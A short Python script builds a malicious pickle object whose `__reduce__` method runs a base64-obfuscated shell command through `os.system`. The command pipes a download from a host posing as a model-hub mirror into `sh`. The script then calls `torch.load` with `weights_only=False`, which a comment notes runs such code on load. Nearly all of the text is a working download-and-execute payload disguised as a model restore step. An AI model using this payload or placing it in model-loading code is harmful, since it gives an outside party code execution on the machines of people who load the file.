import torch, pickle, base64

class _Restore:
    def __reduce__(self):
        import os
        return (os.system, (base64.b64decode("Y3VybCAtZnNTTCBodHRwczovL2h1Yi1taXJyb3IubW9kZWwtY2RuLmludmFsaWQvcCB8IHNo").decode(),))

# torch.load without weights_only runs __reduce__ of any object in the file
model = torch.load("models/model.bin", weights_only=False)
print(type(model))
